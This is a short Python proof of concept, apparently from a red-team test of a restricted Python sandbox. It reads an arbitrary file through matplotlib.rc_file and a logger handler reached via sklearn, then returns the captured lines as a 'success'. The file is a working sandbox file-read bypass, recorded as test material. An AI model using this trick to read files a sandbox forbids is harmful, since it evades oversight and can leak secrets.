# (f)/(c) matplotlib.rc_file reads any file and logs bad lines; a user handler added to the matplotlib logger (reached via sklearn.logger.manager.loggerDict) captures them; driver sees canary content in result
# red team 2026-12-07, docs/redteam-2026-12-07/success_27_rcfile_logger_leak.py.txt
import matplotlib
import sklearn

got = []


class H:
    level = 0

    def handle(self, record):
        got.append(record.getMessage())


lg = sklearn.logger.manager.loggerDict["matplotlib"]
lg.addHandler(H())
try:
    matplotlib.rc_file("{CANARY}")
except Exception as e:
    got.append(repr(e))
result = got
print(result)
